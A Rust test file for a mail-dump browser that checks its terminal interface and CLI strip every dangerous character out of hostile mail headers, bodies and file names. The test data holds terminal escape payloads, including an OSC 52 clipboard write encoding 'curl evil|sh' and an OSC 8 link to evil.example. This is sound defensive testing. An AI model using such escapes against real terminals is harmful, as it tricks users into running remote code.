//! No byte from a dump reaches the terminal unfiltered. A dump carries every
//! class of dangerous character — C0 and C1 controls, CSI and OSC escapes
//! (OSC 52 clipboard writes, OSC 8 links), bidirectional overrides and
//! isolates, invisible format characters — in every place a dump can put
//! text: subjects, names, addresses, Message-IDs, bodies, attachment names,
//! file and folder names. Every panel, overlay, prompt and status message,
//! and the CLI's output, is then checked cell by cell.

mod common;

use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::process::Command;

use ratatui::buffer::Buffer;
use trawl::sanitize::is_unsafe;
use trawl::tui::action::Action;
use trawl::tui::app::{App, Focus};
use trawl::tui::keymap::Keymap;
use trawl::tui::theme::Theme;
use trawl::workspace::Workspace;

/// One of each class, as it would come in a raw header or body.
const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\ \
\u{9b}31m \u{202e}fdp.exe \u{2067}rtl\u{2069} \u{200b}\u{feff}\u{e0041}\u{e0042} \r\u{8}\u{7f}\u{0}end";

/// The classes each checked cell must not contain (tab aside, which
/// sanitising turns into spaces).
fn bad_cells(buf: &Buffer) -> Vec<String> {
    buf.content()
        .iter()
        .filter(|c| {
            c.symbol()
                .chars()
                .any(|ch| ch.is_control() || is_unsafe(ch))
        })
        .map(|c| format!("{:?}", c.symbol()))
        .collect()
}

fn assert_clean(app: &App, what: &str) {
    let buf = common::render(app);
    let bad = bad_cells(&buf);
    assert!(bad.is_empty(), "{what}: {bad:?}\n{}", common::text(&buf));
}

/// RFC 2047 base64 of `s`, as a header would carry it encoded.
fn encoded(s: &str) -> String {
    use base64::Engine;
    format!(
        "=?UTF-8?B?{}?=",
        base64::engine::general_purpose::STANDARD.encode(s)
    )
}

fn hostile_dump(root: &Path) {
    let raw_subject = EVIL.replace(['\r', '\0'], "");
    let mail = format!(
        "From: \"{name}\" <evil@x.example>\r\n\
To: {to} <b@x.example>\r\n\
Subject: {subject} {raw}\r\n\
Date: Thu, 16 Mar 2017 10:02:11 +0100\r\n\
Message-ID: <evil\u{1b}[31m@x.example>\r\n\
In-Reply-To: <gone\u{1b}]52;c;eA==\u{7}@x.example>\r\n\
Received: from {raw} by mx.example; Thu, 16 Mar 2017 10:02:12 +0100\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b\"\r\n\
\r\n\
--b\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
body {EVIL}\r\n\
--b\r\n\
Content-Type: text/plain; name=\"{att}\"\r\n\
Content-Disposition: attachment; filename=\"{att}\"\r\n\
\r\n\
attached {EVIL}\r\n\
--b--\r\n",
        name = encoded(EVIL),
        to = encoded(EVIL),
        subject = encoded(EVIL),
        raw = raw_subject,
        att = encoded(&format!("{EVIL}.txt")),
    );
    let dir = root.join(std::ffi::OsStr::from_bytes(b"caf\xe9 \x1b[31mdir"));
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(dir.join("evil.eml"), mail).expect("write");
    std::fs::write(
        root.join(std::ffi::OsStr::from_bytes(b"note\x1b]52;c;eA==\x07.txt")),
        format!("loose {EVIL}\n"),
    )
    .expect("write");
}

fn app(root: &Path, data: &Path) -> App {
    let ws = Workspace::open_in(root, data).expect("open");
    App::new(ws, Keymap::builtin(), Theme { color: true }, (100, 30))
}

fn type_text(app: &mut App, text: &str) {
    for c in text.chars() {
        app.update(Action::PromptInput(c));
    }
}

fn find(app: &App, pred: impl Fn(&trawl::model::Document) -> bool) -> usize {
    (0..app.ws.scan.docs.len())
        .find(|&d| pred(app.ws.doc(d)))
        .expect("document")
}

#[test]
fn every_panel_overlay_prompt_and_message_shows_hostile_text_defused() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path().join("dump");
    hostile_dump(&root);
    let data = common::data_dir();
    let mut a = app(&root, data.path());
    let mail = find(&a, trawl::model::Document::is_rfc822);
    assert!(
        a.ws.doc(mail).subject().contains('\u{1b}'),
        "the test really carries escapes into the documents"
    );
    let mut checked = 0;
    let mut check = |a: &App, what: &str| {
        assert_clean(a, what);
        checked += 1;
    };
    a.go_to_doc(mail);
    check(&a, "tree and preview of the message");
    a.update(Action::RawSource);
    check(&a, "raw source");
    a.update(Action::HeaderHops);
    check(&a, "header hops");
    a.update(Action::HeaderHops);
    let part = find(&a, trawl::model::Document::is_part);
    a.go_to_doc(part);
    check(&a, "attachment preview");
    let loose = find(&a, |d| !d.is_mail());
    a.go_to_doc(loose);
    check(&a, "loose file preview");
    a.update(Action::ToggleView);
    check(&a, "folder view");
    a.update(Action::ToggleView);
    a.update(Action::Gaps);
    check(&a, "missing messages list");
    a.update(Action::Gaps);
    a.go_to_doc(mail);
    a.update(Action::LinkThread);
    check(&a, "linking hint with the subject");
    a.update(Action::ClearSearch);
    a.update(Action::NewTag);
    type_text(&mut a, "tag\u{202e}\u{200b}\u{e0041}");
    check(&a, "new tag prompt");
    a.update(Action::PromptSubmit);
    check(&a, "tag panel and status with the new tag");
    a.focus = Focus::Tags;
    a.update(Action::TagUp);
    a.update(Action::Search);
    type_text(&mut a, "end \u{202e}(");
    check(&a, "search prompt");
    a.update(Action::PromptSubmit);
    check(&a, "search error");
    a.update(Action::PromptClear);
    type_text(&mut a, "end");
    a.update(Action::PromptSubmit);
    check(&a, "search results");
    a.update(Action::ClearSearch);
    a.update(Action::QuickFilter);
    type_text(&mut a, "click");
    check(&a, "quick filter");
    a.update(Action::PromptCancel);
    a.update(Action::SidePanel);
    check(&a, "timeline");
    a.update(Action::SidePanel);
    check(&a, "correspondents: hostile names and addresses");
    a.update(Action::SidePanel);
    a.update(Action::Help);
    check(&a, "help");
    println!(
        "{checked} screens checked: no control, escape, bidi or invisible character reached a cell"
    );
}

#[test]
fn cli_output_of_hostile_text_is_defused() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path().join("dump");
    hostile_dump(&root);
    let data = common::data_dir();
    let dump = root.to_str().expect("utf-8");
    for args in [
        vec!["tree", dump],
        vec!["tree", dump, "--json"],
        vec!["gaps", dump],
        vec!["gaps", dump, "--json"],
        vec!["search", dump, "end"],
        vec!["search", "--json", dump, "end"],
        vec!["index", dump],
    ] {
        let out = Command::new(env!("CARGO_BIN_EXE_trawl"))
            .args(&args)
            .env("TRAWL_DATA_DIR", data.path())
            .output()
            .expect("run");
        assert!(out.status.success(), "{args:?}");
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let text = String::from_utf8_lossy(bytes);
            let bad: Vec<char> = text
                .chars()
                .filter(|&c| c != '\n' && c != '\t' && (c.is_control() || is_unsafe(c)))
                .collect();
            assert!(bad.is_empty(), "{args:?} {stream}: {bad:?}\n{text}");
        }
    }
}
